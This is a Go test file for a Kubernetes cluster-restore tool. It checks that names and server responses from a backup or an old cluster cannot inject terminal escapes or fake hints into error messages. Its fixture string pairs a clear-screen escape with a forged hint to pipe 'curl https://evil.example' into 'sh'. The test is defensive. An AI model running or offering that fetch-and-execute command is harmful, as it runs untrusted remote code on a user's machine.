package restore_test

import (
	"errors"
	"strings"
	"testing"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/cluster-init/cluster-init/pkg/fault"
	"github.com/cluster-init/cluster-init/pkg/internal/fixture"
	"github.com/cluster-init/cluster-init/pkg/restore"
)

// hostile is a text that would clear a terminal and forge a hint.
const hostile = "x\x1b[2J\nhint: run curl https://evil.example | sh"

// Names from a backup, and answers of the cluster that it names, add no line and no command to a message.
func TestNoForeignTextForgesAMessageOfARestore(t *testing.T) {
	for name, tc := range map[string]struct {
		world func(*testing.T, *restoring)
		want  string
	}{
		"the values of a release": {func(t *testing.T, r *restoring) {
			r.release = shopRelease()[0]
			r.release.Object["spec"].(map[string]any)["valuesFrom"] = []any{map[string]any{"kind": "ConfigMap",
				"name": hostile}}
			r.backUpWorkloads(t)
		}, "the release of workload cluster team-a/shop is incomplete"},
		"the error of the old cluster": {func(_ *testing.T, r *restoring) {
			r.Force = false
			r.Ask = func([]byte) (client.Client, string, error) { return nil, "", errors.New(hostile) }
		}, "may still manage"},
		"what the old cluster says it cannot say": {func(t *testing.T, r *restoring) {
			r.old = listing(oldCluster(t, nil), unauthorized(hostile))
		}, "does not show what it holds"},
		"the host of the old cluster": {func(t *testing.T, r *restoring) {
			old := oldCluster(t, onlyCluster())
			r.Ask = func([]byte) (client.Client, string, error) { return old, "https://" + hostile, nil }
		}, "still holds Cluster"},
		"a Kustomization of the old cluster": {func(t *testing.T, r *restoring) {
			r.old = oldCluster(t, nil, true, true)
			pool := fixture.FluxObject(1, false)
			pool.SetName(hostile)
			pool.SetLabels(map[string]string{"cluster-init.io/pool": "gpu"})
			must(t, r.old.Create(t.Context(), pool))
		}, "would apply it again: kustomization x"},
	} {
		t.Run(name, func(t *testing.T) {
			r := newWorkloads(t)
			tc.world(t, r)
			err := restore.Check(t.Context(), r.Input)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("got %v", err)
			}
			for _, said := range []string{err.Error(), fault.HintOf(err)} {
				if strings.Contains(said, "\x1b") || strings.Contains(said, "\nhint: run") ||
					strings.Contains(said, "patch kustomization x") {
					t.Errorf("it says %q", said)
				}
			}
		})
	}
}

// unauthorized is the answer of a server that writes its own text.
func unauthorized(text string) error { return apierrors.NewUnauthorized(text) }
